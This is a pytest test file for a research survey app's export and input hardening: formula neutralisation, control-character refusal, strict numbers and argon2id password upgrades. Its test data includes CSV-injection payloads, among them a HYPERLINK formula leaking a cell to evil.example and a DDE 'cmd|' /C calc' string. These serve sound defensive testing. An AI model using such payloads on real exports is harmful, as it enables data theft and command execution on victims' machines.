"""The scoring app closed to attack: spreadsheet-safe exports, control characters,
strict numbers and argon2id passwords (on SQLite and PostgreSQL through ``db_url``)."""

from __future__ import annotations

import csv
import html
import io

import pandas as pd
from app_bots import Practitioner, Researcher, default_answer
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from dsk.app import read_survey
from dsk.app._survey import BOM, restore_cell, spreadsheet_cell
from dsk.cli import app as cli
from dsk.io import read_table

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def _attack(position: int) -> dict[str, object]:
    return default_answer(position) | {"rationale": LINK if position == 0 else SUM,
                                       "salient_other": SUM if position == 0 else "-2+3"}


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))


def test_spreadsheet_cells_are_neutralised_and_restored() -> None:
    for text, safe in [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@A", "'@A"),
                       ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=1", "''=1"), ("x=1", "x=1"),
                       ("'x", "'x"), ("", ""), ("1-2", "1-2")]:
        assert spreadsheet_cell(text) == safe
        assert restore_cell(safe) == text


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\na1 \""), max_size=8) | st.text(max_size=8))
def test_neutralising_is_safe_and_undone_exactly(text: str) -> None:
    safe = spreadsheet_cell(text)
    assert restore_cell(safe) == text
    assert safe[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert safe == text or safe == "'" + text


def test_spreadsheet_csv_keeps_line_breaks_numbers_and_lists() -> None:
    from dsk.app._survey import spreadsheet_csv

    frame = pd.DataFrame({"why": ["a\rb", "\r=1", "c\r\nd", None],
                          "level": [-3, 2, 0, 1], "share": [-0.5, 0.25, float("nan"), 1.0],
                          "factors": [["x"], [], ["=y", "z"], ["w"]]})
    text = spreadsheet_csv(frame)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["why", "level", "share", "factors"], ["a\rb", "-3", "-0.5", '["x"]'],
                    ["'\r=1", "2", "0.25", "[]"], ["c\r\nd", "0", "", '["=y","z"]'],
                    ["", "1", "1.0", '["w"]']]
    back = pd.read_csv(io.StringIO(text, newline=""))
    assert back["level"].tolist() == [-3, 2, 0, 1]  # numbers, not text


def test_web_and_cli_exports_neutralise_formulas(make_client, researcher: Researcher,
                                                 db_url: str, tmp_path) -> None:
    study = researcher.create_study(deck_size=2, n_participants=1, rounds=1)
    bot = Practitioner(make_client(), researcher.links(study)[0])
    bot.consent()
    bot.play_round(_attack)
    r = researcher.client.get(f"/studies/{study}/judgements.csv")
    assert r.status_code == 200 and not r.text.startswith(BOM)
    rows = _rows(r.text)
    assert [row["rationale"] for row in rows] == ["'" + LINK, "'" + SUM]
    assert [row["salient_other"] for row in rows] == ["'" + SUM, "'-2+3"]
    assert [row["need_level"] for row in rows] == ["1", "2"]  # numbers stay numbers
    assert [row["salient_factors"] for row in rows] == [
        '["parental_mental_health","domestic_abuse"]'] * 2
    excel = researcher.client.get(f"/studies/{study}/judgements.csv?excel=1")
    assert excel.content.startswith(BOM.encode()) and _rows(excel.text) == rows
    bad = researcher.client.get(f"/studies/{study}/judgements.csv?excel=yes")
    assert bad.status_code == 422 and "excel: expected 1 or 0" in html.unescape(bad.text)
    # the Parquet export is the analysis file: the true text, unchanged
    (tmp_path / "j.parquet").write_bytes(
        researcher.client.get(f"/studies/{study}/judgements.parquet").content)
    exact = read_table(tmp_path / "j.parquet", "judgements")
    assert exact["rationale"].tolist() == [LINK, SUM]
    assert exact["salient_other"].tolist() == [SUM, "-2+3"]
    # the CSV read back for analysis: the same numbers, the guard left on the text
    (tmp_path / "web.csv").write_bytes(r.content)
    sheet = read_table(tmp_path / "web.csv", "judgements")
    assert sheet["need_level"].tolist() == exact["need_level"].tolist()
    assert sheet["rationale"].tolist() == ["'" + LINK, "'" + SUM]

    runner = CliRunner()
    out = tmp_path / "cli.csv"
    done = runner.invoke(cli, ["study", "export", str(study), "-o", str(out), "--db", db_url])
    assert done.exit_code == 0, done.output
    assert out.read_bytes() == r.content
    done = runner.invoke(cli, ["study", "export", str(study), "-o", str(out), "--excel",
                               "--db", db_url])
    assert done.exit_code == 0 and out.read_bytes() == excel.content
    done = runner.invoke(cli, ["study", "export", str(study), "-o", str(tmp_path / "j.jsonl"),
                               "--excel", "--db", db_url])
    assert done.exit_code == 1 and "--excel applies to a .csv output only" in done.output
    done = runner.invoke(cli, ["study", "export", str(study), "-o", str(tmp_path / "j.jsonl"),
                               "--db", db_url])
    assert read_table(tmp_path / "j.jsonl", "judgements")["rationale"].tolist() == [LINK, SUM]


def test_survey_csv_is_neutralised_and_reads_back(make_client, researcher: Researcher,
                                                  db_url: str, tmp_path) -> None:
    vignettes = tmp_path / "v.csv"
    from dsk.catalogue import load_catalogue
    from dsk.design import generate
    from dsk.io import write_table

    frame = generate("random", 3, 1, load_catalogue(), set_id="ours")
    frame["vignette_id"] = ["=cmd|x", "-v2", "@v3"]
    frame["narrative"] = ["- Mother says =1+1", "plain", "@home"]
    write_table(frame, vignettes)
    study = researcher.create_study(deck_size=3, n_participants=1, rounds=1,
                                    vignettes_file=vignettes)
    r = researcher.client.get(f"/studies/{study}/survey.csv?excel=1")
    assert r.status_code == 200 and r.content.startswith(BOM.encode())
    cells = [cell for row in csv.reader(io.StringIO(r.text.removeprefix(BOM))) for cell in row]
    assert "'=cmd|x" in cells and "'- Mother says =1+1" in cells and "=cmd|x" not in cells
    assert not any(c[:1] in ("=", "+", "-", "@") for c in cells)
    path = tmp_path / "survey.csv"
    done = CliRunner().invoke(cli, ["study", "survey", str(study), "-o", str(path), "--excel",
                                    "--db", db_url])
    assert done.exit_code == 0, done.output
    assert path.read_bytes() == r.content
    design = read_survey(path)  # the byte-order mark and the guard are undone
    assert list(design.columns)[0] == "study_id"
    assert set(design["vignette_id"]) == {"=cmd|x", "-v2", "@v3"}
    assert "- Mother says =1+1" in set(design["text"])
    q = design[(design["field"] == "need_level") & (design["vignette_id"] == "-v2")]
    pd.DataFrame([{"respondent_id": "r1", q["question_id"].iloc[0]: "3"}]).to_csv(
        tmp_path / "resp.csv", index=False)
    done = CliRunner().invoke(cli, ["study", "import", str(tmp_path / "resp.csv"), "--design",
                                    str(path), "-o", str(tmp_path / "imp.parquet")])
    assert done.exit_code == 0, done.output
    assert read_table(tmp_path / "imp.parquet", "judgements")["vignette_id"].tolist() == ["-v2"]


# ---------------------------------------------------------------- control characters


def _scoring(make_client, researcher: Researcher) -> tuple[Practitioner, str]:  # type: ignore[no-untyped-def]
    study = researcher.create_study(deck_size=2, n_participants=1, rounds=1)
    bot = Practitioner(make_client(), researcher.links(study)[0])
    assert bot.consent().status_code == 200
    return bot, bot.page().text


def test_control_characters_are_refused_naming_the_field(make_client, researcher: Researcher,
                                                          db_url: str) -> None:
    bot, page = _scoring(make_client, researcher)
    for name, bad in [("rationale", "because\x00of"), ("salient_other", "x\x1by"),
                      ("lead_agency", "social_care\x00"), ("need_level", "\x002"),
                      ("salient_factors", "housing\x07")]:
        answer = default_answer(0)
        answer[name] = [bad] if name == "salient_factors" else bad
        r = bot.submit(page, answer)
        text = html.unescape(r.text)
        assert r.status_code == 422, (name, r.status_code)
        assert f"{name}: contains the control character U+00" in text
        assert bad not in text
    # tab and line breaks (a text area sends CR LF) are text
    ok = bot.submit(page, default_answer(0) | {"rationale": "one\r\ntwo\tthree"})
    assert ok.status_code == 200
    # every form: log-in, consent and the researcher's forms
    login = make_client()
    r = Researcher(login).login("ada\x00", "whatever it is")
    assert r.status_code == 422 and "username: contains the control character U+0000" in r.text
    r = researcher.post_study(title="Pilot\x00")
    assert r.status_code == 422 and "title: contains the control character U+0000" in r.text
    r = researcher.post_study(sites="Leeds\x01")
    assert r.status_code == 422 and "sites: contains the control character U+0001" in r.text
    study = researcher.create_study(deck_size=2, n_participants=1, rounds=1)
    other = Practitioner(make_client(), researcher.links(study)[0])
    form = other.client.get(other.link).text
    from app_bots import csrf_of

    r = other.client.post(other.link, data={"profession": "police\x00", "experience_years": "3",
                                            "consent": "yes", "csrf_token": csrf_of(form)})
    assert r.status_code == 422 and "profession: contains the control character" in r.text
    r = researcher.client.post(f"/studies/{study}/links", data={
        "site": "\x00", "csrf_token": csrf_of(researcher.client.get("/").text)})
    assert r.status_code == 422 and "site: contains the control character U+0000" in r.text


# ---------------------------------------------------------------- numbers


def test_numbers_are_ascii_digits_one_value_each(make_client, researcher: Researcher,
                                                 db_url: str) -> None:
    bot, page = _scoring(make_client, researcher)
    for name, bad, said in [("need_level", "\u0663", r"'\u0663'"), ("need_level", "+3", "'+3'"),
                            ("confidence", "-0", "'-0'"), ("risk", "3.0", "'3.0'"),
                            ("confidence", "7_0", "'7_0'"), ("risk", "\u00a03", r"'\xa03'")]:
        r = bot.submit(page, default_answer(0) | {name: bad})
        assert r.status_code == 200 and "/s/case/1" in str(r.url), (name, bad)  # redirected
        assert f"using the digits 0-9, not {said}" in html.unescape(r.text)
    r = bot.submit(page, default_answer(0) | {"need_level": ["2", "3"]})
    assert r.status_code == 422
    assert "need_level: given 2 times; expected one value" in html.unescape(r.text)
    r = bot.submit(page, default_answer(0) | {"rationale": ["a", "b"]})
    assert r.status_code == 422 and "rationale: given 2 times" in html.unescape(r.text)
    # a huge field is refused without being echoed back
    huge = "9" * 2**20
    r = bot.submit(page, default_answer(0) | {"need_level": huge})
    assert r.status_code == 422 and len(r.content) < 50_000
    assert "need_level: expected at most 10000 characters, got 1048576" in r.text
    long_level = "9" * 5000
    r = bot.submit(page, default_answer(0) | {"need_level": long_level,
                                              "rationale": "r" * 6000})
    assert r.status_code == 200 and len(r.content) < 30_000 and long_level not in r.text
    # spaces around a number are ignored
    assert bot.submit(page, default_answer(0) | {"need_level": " 3 "}).status_code == 200
    # the researcher's forms and the consent form are as strict
    for field, bad in [("deck_size", "\u0663"), ("n_participants", "+2"), ("seed", "1e3")]:
        r = researcher.post_study(**{field: bad})  # type: ignore[arg-type]
        assert r.status_code == 422 and f"{field}: expected a whole number" in r.text
    study = researcher.create_study(deck_size=2, n_participants=1, rounds=1)
    other = Practitioner(make_client(), researcher.links(study)[0])
    r = other.consent(years="\u0665")  # type: ignore[arg-type]
    assert r.status_code == 200 and "Years of experience: enter a whole number" in r.text


# ---------------------------------------------------------------- passwords


def test_scrypt_hashes_verify_and_become_argon2id_at_the_next_login(make_client,
                                                                    db_url: str) -> None:
    from sqlalchemy import select

    from dsk.app import open_database
    from dsk.app._models import Researcher as Account
    from dsk.app._security import scrypt_hash

    def stored() -> str:
        with open_database(db_url) as db:
            return str(db.scalar(select(Account.password_hash)
                                 .where(Account.username == "grace")))

    client = make_client()  # migrates the database
    with open_database(db_url) as db:
        db.add(Account(username="grace", password_hash=scrypt_hash("an old passphrase")))
        db.commit()
    old = stored()
    assert old.startswith("scrypt$16384$8$1$")
    bot = Researcher(client)
    assert bot.login("grace", "not the passphrase").status_code == 401
    assert stored() == old  # a failed log-in changes nothing
    r = bot.login("grace", "an old passphrase")
    assert r.status_code == 200 and str(r.url).endswith("/")
    new = stored()
    assert new.startswith("$argon2id$v=19$m=65536,t=3,p=4$")
    again = Researcher(make_client())
    assert again.login("grace", "an old passphrase").status_code == 200
    assert stored() == new  # an argon2id hash is kept
    assert Researcher(make_client()).login("grace", "wrong again").status_code == 401


def test_cli_refuses_control_characters_in_a_new_study(db_url: str) -> None:
    from dsk.app import create_researcher

    create_researcher(db_url, "ada", "correct horse battery")  # the study's owner
    runner = CliRunner()
    for option, bad in [("--title", "Pilot\x00"), ("--sites", "Leeds,\x1bBristol")]:
        args = ["study", "create", "--set", "training-12", "--title", "Pilot", "--deck-size",
                "2", "--participants", "2", "--db", db_url, option, bad]
        done = runner.invoke(cli, args)
        assert done.exit_code == 1, done.output
        assert f"error: {option[2:]}: contains the control character" in done.output


def test_survey_responses_take_numbers_in_ascii_digits_only() -> None:
    import pytest

    from dsk.app import SurveyError, import_survey
    from dsk.app._survey import survey_design
    from dsk.catalogue import load_catalogue

    cat = load_catalogue()
    decks = pd.DataFrame({"deck": [1], "position": [1], "vignette_id": ["a"]})
    vignettes = pd.DataFrame({"vignette_id": ["a"], "ordinal": [0], "narrative": ["Case a."]})
    design = survey_design(1, decks, vignettes, cat)
    good = {"respondent_id": "r1", "experience_years": "4", "d1_01_level": "3.0",
            "d1_01_conf": "70%", "d1_01_risk": " 2 "}
    table = import_survey(pd.DataFrame([good]), design, catalogue=cat)
    assert table[["need_level", "confidence", "risk", "years_experience"]].to_dict("records") == [
        {"need_level": 3, "confidence": 0.7, "risk": 2.0, "years_experience": 4.0}]
    for column, bad, said in [("d1_01_level", "\u0663", "expected a need level from 1 to 4"),
                              ("d1_01_conf", "1e1", "expected a number"),
                              ("d1_01_risk", "+3", "expected a number"),
                              ("d1_01_risk", "\u0663", "expected a number"),
                              ("experience_years", "1_0", "expected a number of years")]:
        with pytest.raises(SurveyError, match=f"line 2, column '{column}': {said}"):
            import_survey(pd.DataFrame([good | {column: bad}]), design, catalogue=cat)
